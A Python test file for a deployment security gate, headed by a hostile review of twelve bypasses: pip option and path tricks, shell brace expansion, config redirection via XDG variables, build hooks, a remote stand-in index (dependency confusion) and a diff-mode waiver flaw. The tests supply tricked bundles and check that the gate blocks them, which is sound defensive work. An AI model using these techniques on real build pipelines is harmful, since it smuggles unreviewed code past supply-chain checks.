r"""A thirty-seventh hostile review of `gate check`, on the code review 36 wrote: the pip
step a Dockerfile may run (gate.bundle.discovery.dockerfile `_pip_install`, `_starting`),
local folders a requirement builds (gate.bundle.manifests.requirements `runs_a_build`,
`_copies_only`; gate.bundle.manifests.entries), the `.env` variables named as pip sources
(gate.bundle.discovery.npm `_pip_sources_set`), and, for the first time, fingerprint waivers
and baselines in diff mode (gate.policy.waivers, gate.scan.diff).

Each attack is a confirmed problem: the tricked bundle exits 0 with the hostile harness's
policy (checkov off), and a baseline shows the same bundle without the trick blocks:
bandit's B605 on the code the trick installs, put where the gate reads it (an image's
sitecustomize.py, a SAM function's six.py, a Serverless service's six.py); for 12, the
same change checked without `--diff-base`. Where the trick builds a folder, its setup.py,
hook or backend only copies six.txt (the planted module, read by the gate as text) to
six.py: nothing bandit flags. pip 26.3 was run on what could be run offline: it reads
`-r=requirements.txt` as the file `=requirements.txt`, and builds (runs the setup.py of)
`six @ file:./libs/six#subdirectory=build`. Docker was not run: the Lambda base images'
`/bin/sh` is bash (Amazon Linux), and `bash --posix` brace-expands. What lets each through:

1. `RUN pip install -r=requirements.txt -t .` (`_pip_install`). The option is split at
   `=` as a long option is; pip's optparse gives a short option the rest of its word,
   `=requirements.txt`, a file of the bundle that `REQUIREMENTS_GLOB` never matches, so
   never read: it names `./libs/six`, whose setup.py runs in the image build.
2. `RUN pip install -r https://pypi.example.net/requirements.txt -t .` (`_resolved`
   joins a URL to the working directory as a path: `/var/task/https:/...`, under
   /var/task, named `requirements.txt`). pip fetches the file: what it installs is
   nobody's to read.
3. Shell expansion in a shell-form RUN (`_SHELL` refuses `;&|<>`$\` and newlines, not
   braces, globs or `~`). `-t {.,./libs/six}` is one word under /var/task to the gate and
   `-t . ./libs/six` to bash: pip builds the bundle's folder.
4. `ENV XDG_CONFIG_HOME=/var/task/config` (or `ARG XDG_CONFIG_DIRS=...`) before the pip
   RUN (`_STARTING_NAMES`, `_STARTING_PREFIXES`: no `XDG_`). pip reads
   `$XDG_CONFIG_HOME/pip/pip.conf` (and each `$XDG_CONFIG_DIRS/pip/pip.conf`), the
   bundle's `config/pip/pip.conf`: `index-url = https://pypi.example.net/simple`. The
   `.env` rule knows `XDG_*` (README); the Dockerfile's does not (nor `SSL_CERT_FILE`,
   `REQUESTS_CA_BUNDLE`, `HTTPS_PROXY`, read, not run).
5. `WORKDIR /var/task/build` then `RUN pip install -r ../requirements.txt -t ..`
   (`runs_a_build` looks for `./libs/six` beside the requirements file and at the bundle's
   root, a plain hatchling project there). pip resolves a requirement's path from its
   working directory: `/var/task/build/libs/six`, the bundle's `build/libs/six`, whose
   setup.py runs.
6. `-e ./libs/six` (`_classify_line`: an editable line is `editable requirement`, medium,
   never given to `runs_a_build`). pip prepares an editable folder by its setup.py too.
7. A Pipfile's `six = {path = "./libs/six"}` and Poetry's `six = {path = "libs/six"}`
   (gate.bundle.manifests.entries `read_dependency` calls `from_bundle`, archives only:
   `local path dependency`, medium). serverless-python-requirements exports them for pip,
   which builds the folder (setup.py).
8. Hatchling projects `_copies_only` takes for plain: it reads `build-backend` and
   `tool.hatch.build.hooks` only. (a) `backend-path = ["_backend"]`: pip imports the
   backend, `hatchling.build`, from the bundle's `_backend/` (PEP 517 in-tree backend;
   any backend name would do); (b) `[tool.hatch.metadata.hooks.custom] path = "meta.py"`;
   (c) `[tool.hatch.build.targets.wheel.hooks.custom] path = "hook.py"`; (d)
   `[tool.hatch.version] source = "code"`, which executes `version.py`.
9. `six @ file:./libs/six#subdirectory=build` (`runs_a_build` drops the fragment and
   judges `libs/six`, plain): pip builds `libs/six/build`, whose setup.py ran (pip run).
10. A `.env` variable named as a pip source in a file `_pip_sources_set` does not search
    (it reads `requirements*.txt` and serverless.yml): (a) `requirements.txt` includes
    `base.txt`, which says `--no-index --find-links ${WHEELS}`; (b) the plugin's
    `fileName: deps.txt` says it. `.env`: `WHEELS=${PWD}/../wheels`: review 36's 6a.
11. A remote index in a requirements file: `--index-url` or `--extra-index-url
    https://pypi.example.net/simple` then `six==1.16.0`. `_OPTION_WITH_VALUE` skips the
    line with no finding at all; pip-audit looks up PyPI's six 1.16.0, and pip installs
    the other index's (with `--extra-index-url`, whichever is newer: dependency
    confusion). Nothing is reported, not even a warning.
12. Diff mode with a fingerprint waiver or a baseline. `apply_waivers` gives a
    fingerprint waiver to the first finding of that fingerprint in report order, and
    `apply_baseline` its recorded entry likewise; the second copy is judged as new
    (`waiver-repeated`). The change pastes the waived `os.system(cmd)` into the handler,
    above the helper: the new copy takes the waiver (12a) or the baseline entry (12b),
    and the helper's own, its lines untouched and its fingerprint at the merge base, is
    then `preexisting` (gate.scan.diff `_earlier`). Exit 0; without `--diff-base`, 1.

Suggested fixes, by class. 1: read pip's arguments as optparse does (a short option takes
the rest of its word; long options by unique prefix), or accept only `-r FILE` and
`--requirement=FILE`, and check the file's name as pip will open it. 2: a `-r`, `-t`
value that is a URL (`scheme:`) is not a path: refuse it. 3: refuse in a shell-form RUN
every character the shell gives meaning to (`{}*?[]~` and quotes the gate did not
unquote), or accept only the exec (JSON) form. 4: judge a Dockerfile's ENV and ARG by the
`.env` rule's list (pip, uv, `XDG_*`, proxies, certificates, git, Docker): one list for
both. 5: resolve a requirement's relative path from pip's working directory (the RUN's
WORKDIR mapped back to the bundle), or refuse a pip RUN whose WORKDIR is not the folder
the requirements file was copied from. 6 and 7: give editable lines and Poetry/Pipenv
`path`, `file` and `directory` entries to `runs_a_build` as plain requirements are. 8:
`_copies_only` refuses any `backend-path`, any `hooks` table anywhere under
`tool.hatch` (and pdm's `tool.pdm.build`, flit's dynamic version), and any version or
metadata source other than a literal or a regex. 9: judge a local requirement by the folder pip
builds (the `#subdirectory=` fragment joined on), or refuse one with a fragment. 10:
search every file the gate reads as a requirements file (includes, `fileName`, SAM's
manifest) for `${NAME}`. 11: a requirements file naming an index other than PyPI (or one
the policy lists) is refused or at least reported: the audit's lookups are PyPI's. 12:
in diff mode, apply fingerprint waivers and baseline entries only after matching
findings to the merge base's, or judge every finding of a repeated fingerprint as new
(a pasted copy makes the pair new), as the non-diff check does.

Also tried, and the gate held: 1, 3 and 4 with a wheel in the image's context in place of
a folder (the wheel is refused as a zip deployed in the code); `fileName: deps.txt` with
`--find-links ../wheels` (deps.txt is read: refused); the change above without
`--diff-base` (the helper's copy blocks, `waiver-repeated`; and with a baseline);
review 36's realistic files: the AWS documentation's Dockerfile
(`COPY requirements.txt ${LAMBDA_TASK_ROOT}`, `RUN pip install -r requirements.txt`),
yarn 4's `.yarnrc.yml` (`compressionLevel`, `enableGlobalCache`, `nodeLinker`) and a
samconfig with `use_container`, `cached`, `parallel`, `watch`: all pass.

False refusals seen on realistic files: `RUN pip install --no-cache-dir --require-hashes
--no-deps -r requirements.txt --target "${LAMBDA_TASK_ROOT}"` (a hashed lock, pip's own
safeguard) and `RUN pip install --only-binary=:all: -r requirements.txt` (no sdist built)
are refused as RUN steps (`_HARMLESS_PIP_OPTIONS` lacks options that only narrow what is
installed); `ENV PYTHONPATH="${PYTHONPATH}:${LAMBDA_TASK_ROOT}/lib"` is refused (the base
image sets no PYTHONPATH; borderline).

Not covered: `_in_bundle` (gate.scan.run) and `file_at_ref`/`baseline_at_ref` were read
(the path is taken as given; `git show` of a blob applies no textconv unless asked) but
not attacked by a case; the `Seen` severity (a fingerprint's worst severity at the merge
base) was not driven to a case; bandit anchors (gate.pysource `python_lines`) were not
attacked; pdm-backend's `custom-hook` and `version source = "call"`, and flit_core's
import of a module whose `__version__` is not a literal, were read, not run; Docker and
the Lambda base image were not run (3, 4, 5 rest on pip's and bash's documented behaviour).

Fixed, each by its class, but 11. 1, 2, 3 and 5, a pip RUN takes `=VALUE` only on long
options, no URL for a file or folder, no word with a shell pattern, brace, comment or
history character, and only with the function's code folder as its working directory
(gate.bundle.discovery.dockerfile `_pip_install`). 4, one list of the variables that make
the runtime, the shell or a build program start, find or configure a program serves
Dockerfile `ENV`/`ARG` and the Framework's `.env` alike (`configures_a_program`: `XDG_*`,
proxies and certificates among them). 6, 7, 8 and 9, every local folder a manifest
installs is judged by what pip's build of it runs (gate.bundle.manifests.builds): an
editable, a Pipfile or Poetry `path`, a `#subdirectory=` followed; a backend loaded from
the bundle (`backend-path`), dynamic metadata, or hooks anywhere in hatch's or pdm's
settings refuse it, as does a path out of the bundle. 10, a `.env` variable is looked
for in every text file of the service and every file a requirements file includes. 12,
in diff mode, a problem the change copied, one copy of which a waiver or baseline entry
by fingerprint took, is new in every copy. The false refusals: `--require-hashes`,
`--no-deps`, `--only-binary=:all:` and `--isolated` are pip options that install no more.

11, fixed later by its class: every index other than PyPI that a manifest installs from
(pip's `--index-url`, `--extra-index-url` and `--find-links`, a Pipfile, Poetry or PDM
source, a uv index, a lock file's registry) is a finding of its own, GATE-DEP-002, high,
which a reviewer waives by its fingerprint for an index the organisation controls
(gate.bundle.manifests.indexes); serverless-python-requirements' `pipCmdExtraArgs`
naming one is not followed.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.hostile.conftest import (
    CHEAP_POLICY,
    Sandbox,
    blocked_or_refused,
    commit,
    each_blocked_or_refused,
    each_blocks,
)
from tests.hostile.test_review26 import PLANTED, sam_function, wheel
from tests.hostile.test_review28 import ecr_image, sam_zip
from tests.hostile.test_review31 import planted
from tests.hostile.test_review33 import DOTENV_SERVICE, requirements_service
from tests.hostile.test_review34 import COPIED, in_handler, legacy, repository
from tests.hostile.test_review35 import node_service, pinned_six

Layout = Callable[[Sandbox], None]
Files = dict[str, str | bytes]
WHEEL = "wheels/six-1.16.0-py3-none-any.whl"
EVIL_INDEX = "https://pypi.example.net/simple"
COPY_SIX = "import shutil\n\nshutil.copy('six.txt', 'six.py')\n"
"""What each build step of the bundle does: the planted text becomes the module pip installs."""
COPYING_SETUP = (
    COPY_SIX + "\nfrom setuptools import setup\n\n"
    "setup(name='six', version='1.16.0', py_modules=['six'])\n"
)
HATCHLING = (
    '[build-system]\nrequires = ["hatchling"]\nbuild-backend = "hatchling.build"\n\n'
    '[project]\nname = "six"\nversion = "1.16.0"\n'
)
"""A folder `_copies_only` takes for plain: hatchling, no build hook."""


def building(where: str) -> Files:
    """A folder pip builds by its setup.py, which writes six.py from the planted text."""
    return {f"{where}/setup.py": COPYING_SETUP, f"{where}/six.txt": PLANTED}


def plain(where: str) -> Files:
    return {f"{where}/pyproject.toml": HATCHLING, f"{where}/six.py": "VERSION = '1.16.0'\n"}


# --- 1. to 5. the pip step an image's Dockerfile runs -------------------------------------------


def image_pip(steps: str, files: Files) -> Layout:
    """The image function of ecr_image with `steps` before its CMD, a requirements.txt
    pinning six, and `files`."""

    def layout(sandbox: Sandbox) -> None:
        ecr_image(sandbox, steps)
        sandbox.write("requirements.txt", "six==1.16.0\n")
        for path, text in files.items():
            sandbox.write(path, text)

    return layout


PIP_CONF: Files = {"config/pip/pip.conf": f"[global]\nindex-url = {EVIL_INDEX}\n"}
INSTALL = "RUN pip install -r requirements.txt -t .\n"

# --- 6. to 11. what pip builds and where it looks ------------------------------------------------


def local_project(requirements: str, files: Files) -> Layout:
    """A SAM function whose requirements.txt is `requirements`, with `files`."""

    def layout(sandbox: Sandbox) -> None:
        sam_function(sandbox, requirements)
        for path, text in files.items():
            sandbox.write(path, text)

    return layout


def hatch(tables: str, files: Files, project: str = HATCHLING) -> Layout:
    """`./libs/six`, a hatchling project with `tables` added to its pyproject.toml."""
    return local_project(
        "./libs/six\n",
        {"libs/six/pyproject.toml": project + tables, "libs/six/six.txt": PLANTED, **files},
    )


def service(manifest: str, text: str, files: Files, settings: str = "") -> Layout:
    """A Serverless service in svc/ whose plugin installs `manifest` (`text`), with `files`
    and `settings` under `custom.pythonRequirements`."""

    def layout(sandbox: Sandbox) -> None:
        sandbox.write(
            "svc/serverless.yml",
            DOTENV_SERVICE.replace(
                "    dockerizePip: false\n", f"    dockerizePip: false\n{settings}"
            ),
        )
        sandbox.write(
            "svc/app.py", "import six  # noqa: F401\n\n\ndef handler(e, c):\n    return 1\n"
        )
        sandbox.write(f"svc/{manifest}", text)
        for path, content in files.items():
            sandbox.write(path, content)

    return layout


IN_TREE = 'backend-path = ["_backend"]\n'
FIND_WHEELS = "--no-index\n--find-links ${WHEELS}\nsix==1.16.0\n"
DOTENV_WHEELS: Files = {"svc/.env": "WHEELS=${PWD}/../wheels\n", WHEEL: wheel()}

# The bundles without the tricks, each with the code a trick installs where the gate reads
# it: (layout, the rule that blocks it).
BASELINES: dict[str, tuple[Layout, str]] = {
    "image": (planted(ecr_image, "sitecustomize.py"), "B605"),
    "wheel": (planted(pinned_six, "src/six.py"), "B605"),
    "service": (planted(requirements_service, "svc/six.py"), "B605"),
}
# name: (its baseline, the tricked bundle, what lets it through)
TRICKS: dict[str, tuple[str, Layout, str]] = {
    "1-short-option-equals": (
        "image",
        image_pip("RUN pip install -r=requirements.txt -t .\n",
                  {"=requirements.txt": "./libs/six\n", **building("libs/six")}),
        "_pip_install splits -r=FILE at =; pip opens '=FILE'"),
    "2-requirements-url": (
        "image",
        image_pip("RUN pip install -r https://pypi.example.net/requirements.txt -t .\n", {}),
        "_resolved takes a URL for a path under /var/task"),
    "3-brace-expansion": (
        "image",
        image_pip("RUN pip install -r requirements.txt -t {.,./libs/six}\n", building("libs/six")),
        "_SHELL lets braces through; bash expands them into a positional folder"),
    "4a-env-xdg-config-home": (
        "image", image_pip(f"ENV XDG_CONFIG_HOME=/var/task/config\n{INSTALL}", PIP_CONF),
        "_STARTING_NAMES has no XDG_*: pip reads the bundle's pip.conf"),
    "4b-arg-xdg-config-dirs": (
        "image", image_pip(f"ARG XDG_CONFIG_DIRS=/var/task/config\n{INSTALL}", PIP_CONF),
        "_STARTING_NAMES has no XDG_*: pip reads the bundle's pip.conf"),
    "5-workdir-below-the-code": (
        "image",
        image_pip("WORKDIR /var/task/build\nRUN pip install -r ../requirements.txt -t ..\n",
                  {"requirements.txt": "./libs/six\n", **plain("libs/six"),
                   **building("build/libs/six")}),
        "runs_a_build resolves from the requirements file's folder, pip from its WORKDIR"),
    "6-editable-folder": (
        "wheel", local_project("-e ./libs/six\n", building("libs/six")),
        "_classify_line never gives an editable line to runs_a_build"),
    "7a-pipfile-path": (
        "service", service("Pipfile", '[packages]\nsix = {path = "./libs/six"}\n',
                           building("svc/libs/six")),
        "entries.read_dependency judges a path entry by from_bundle (archives) only"),
    "7b-poetry-path": (
        "service",
        service("pyproject.toml",
                '[tool.poetry]\nname = "orders"\nversion = "1.0.0"\n\n'
                '[tool.poetry.dependencies]\npython = "^3.12"\nsix = {path = "libs/six"}\n',
                building("svc/libs/six")),
        "entries.read_dependency judges a path entry by from_bundle (archives) only"),
    "8a-hatch-backend-path": (
        "wheel",
        hatch("", {"libs/six/_backend/hatchling/__init__.py": "",
                   "libs/six/_backend/hatchling/build.py": COPY_SIX},
              HATCHLING.replace('"hatchling.build"\n', f'"hatchling.build"\n{IN_TREE}')),
        "_copies_only does not read backend-path: the backend is the bundle's"),
    "8b-hatch-metadata-hook": (
        "wheel",
        hatch('\n[tool.hatch.metadata.hooks.custom]\npath = "meta.py"\n',
              {"libs/six/meta.py": COPY_SIX}),
        "_copies_only reads tool.hatch.build.hooks only"),
    "8c-hatch-target-hook": (
        "wheel",
        hatch('\n[tool.hatch.build.targets.wheel.hooks.custom]\npath = "hook.py"\n',
              {"libs/six/hook.py": COPY_SIX}),
        "_copies_only reads tool.hatch.build.hooks only"),
    "8d-hatch-code-version": (
        "wheel",
        hatch('\n[tool.hatch.version]\nsource = "code"\npath = "version.py"\n',
              {"libs/six/version.py": COPY_SIX + "__version__ = '1.16.0'\n"},
              HATCHLING.replace('version = "1.16.0"', 'dynamic = ["version"]')),
        "_copies_only does not read tool.hatch.version: its code source runs the file"),
    "9-subdirectory-fragment": (
        "wheel",
        local_project("six @ file:./libs/six#subdirectory=build\n",
                      {**plain("libs/six"), **building("libs/six/build")}),
        "runs_a_build drops #subdirectory= and judges the parent folder"),
    "10a-dotenv-variable-in-included-file": (
        "service", service("requirements.txt", "-r base.txt\n",
                           {"svc/base.txt": FIND_WHEELS, **DOTENV_WHEELS}),
        "_pip_sources_set searches requirements*.txt only"),
    "10b-dotenv-variable-in-file-name": (
        "service", service("deps.txt", FIND_WHEELS, DOTENV_WHEELS, "    fileName: deps.txt\n"),
        "_pip_sources_set searches requirements*.txt only"),
    "11a-index-url": (
        "wheel", local_project(f"--index-url {EVIL_INDEX}\nsix==1.16.0\n", {}),
        "_OPTION_WITH_VALUE skips a remote index; the audit looks up PyPI's"),
    "11b-extra-index-url": (
        "wheel", local_project(f"--extra-index-url {EVIL_INDEX}\nsix==1.16.0\n", {}),
        "_OPTION_WITH_VALUE skips a remote index; the audit looks up PyPI's"),
}  # fmt: skip


def test_the_code_each_trick_installs_blocks(tmp_path: Path) -> None:
    """The baselines, in one run of every bundle: the same bundle without the trick, the
    code it would install where the gate reads it, blocks."""
    each_blocks(tmp_path, BASELINES)


def test_what_pip_installs_is_scanned_or_refused(tmp_path: Path) -> None:
    """The deploy's pip installs, or runs, code the gate never read: the run must not pass."""

    each_blocked_or_refused(tmp_path, {trick: case[1] for trick, case in sorted(TRICKS.items())})


# --- 12. diff mode: the pasted copy takes the waiver or the baseline entry ------------------------


def pasted_into_handler(sandbox: Sandbox, how: str, diff: bool) -> int:
    """Exit code for the change that pastes the helper's `os.system(cmd)` into the handler
    (above the helper), with the helper's B605 waived by its fingerprint (`how` is
    `waiver`) or recorded in a baseline (`baseline`), in diff mode against main or not."""
    legacy(sandbox)
    arguments = ["--diff-base", "main"] if diff else []
    policy = CHEAP_POLICY
    if how == "waiver":
        found = json.loads(sandbox.run("--format", "json").stdout)["findings"]
        helper = next(f for f in found if f["rule_id"] == "B605")
        policy += (
            f"waivers:\n  - {{rule: B605, fingerprint: {helper['fingerprint']}, "
            "reason: 'rotate() is run by operators only', expires: 2027-06-01}\n"
        )
    else:
        recorded = sandbox.base / "baseline.json"
        sandbox.gate(
            "baseline", "create", str(sandbox.bundle), "--output", str(recorded),
            "--policy", str(sandbox.policy()),
        )  # fmt: skip
        arguments += ["--baseline", str(recorded)]
    repo = repository(sandbox)
    sandbox.write("src/app.py", in_handler(COPIED))
    commit(repo, "paste")
    return sandbox.run(*arguments, policy=policy).code


@pytest.mark.parametrize("how", ["waiver", "baseline"])
def test_the_pasted_copy_blocks_without_diff_mode(sandbox: Sandbox, how: str) -> None:
    """The baseline: checked whole, the second copy of the waived or recorded call blocks."""
    assert pasted_into_handler(sandbox, how, diff=False) == 1


@pytest.mark.parametrize("how", ["waiver", "baseline"])
def test_the_pasted_copy_blocks_in_diff_mode(sandbox: Sandbox, how: str) -> None:
    """12: in diff mode the pasted copy takes the waiver (or entry), the helper's own is
    preexisting: the change must still not pass."""
    blocked_or_refused(pasted_into_handler(sandbox, how, diff=True))


# --- false refusals: realistic files the new rules refuse -----------------------------------------

AWS_DOCS = (
    "FROM public.ecr.aws/lambda/python:3.12\n\n# Copy requirements.txt\n"
    "COPY requirements.txt ${LAMBDA_TASK_ROOT}\n\n# Install the specified packages\n"
    "RUN pip install -r requirements.txt\n\n# Copy function code\n"
    "COPY app.py ${LAMBDA_TASK_ROOT}\n\n"
    '# Set the CMD to your handler\nCMD [ "app.handler" ]\n'
)
"""The Dockerfile of AWS's documentation for a Python image function."""


def dockerfile(text: str) -> Layout:
    def layout(sandbox: Sandbox) -> None:
        ecr_image(sandbox)
        sandbox.write("requirements.txt", "six==1.16.0\n")
        sandbox.write("Dockerfile", text)

    return layout


def pip_run(command: str) -> Layout:
    return dockerfile(AWS_DOCS.replace("RUN pip install -r requirements.txt", command))


def yarn4(sandbox: Sandbox) -> None:
    node_service(sandbox)
    sandbox.write(
        ".yarnrc.yml",
        "compressionLevel: mixed\n\nenableGlobalCache: false\n\nnodeLinker: node-modules\n",
    )


def samconfig(sandbox: Sandbox) -> None:
    sam_zip(sandbox)
    sandbox.write(
        "samconfig.toml",
        'version = 0.1\n\n[default.global.parameters]\nstack_name = "orders"\n'
        'region = "eu-west-1"\n\n[default.build.parameters]\ncached = true\nparallel = true\n'
        "use_container = true\n\n[default.sync.parameters]\nwatch = true\n\n"
        '[default.deploy.parameters]\ncapabilities = "CAPABILITY_IAM"\n',
    )


HELD: dict[str, Layout] = {
    "aws-docs-dockerfile": dockerfile(AWS_DOCS),
    "yarn4-yarnrc": yarn4,
    "sam-samconfig": samconfig,
}
REFUSED: dict[str, tuple[Layout, str]] = {
    "require-hashes": (
        pip_run("RUN pip install --no-cache-dir --require-hashes --no-deps -r requirements.txt "
                '--target "${LAMBDA_TASK_ROOT}"'),
        "pip's own safeguard, a hashed lock, is a RUN step the gate cannot follow"),
    "only-binary": (
        pip_run("RUN pip install --only-binary=:all: -r requirements.txt"),
        "installing wheels only (no sdist built) is a RUN step the gate cannot follow"),
}  # fmt: skip


@pytest.mark.parametrize("name", sorted(HELD))
def test_realistic_files_pass(sandbox: Sandbox, name: str) -> None:
    """Realistic files the new rules read right: the clean bundle passes."""
    HELD[name](sandbox)
    run = sandbox.run()
    assert run.code == 0, run.stderr


@pytest.mark.parametrize("name", sorted(REFUSED))
def test_realistic_pip_steps_are_not_refused(sandbox: Sandbox, name: str) -> None:
    """A pip step that installs no more than the requirements file says: it passes."""
    REFUSED[name][0](sandbox)
    run = sandbox.run()
    assert run.code == 0, run.stderr
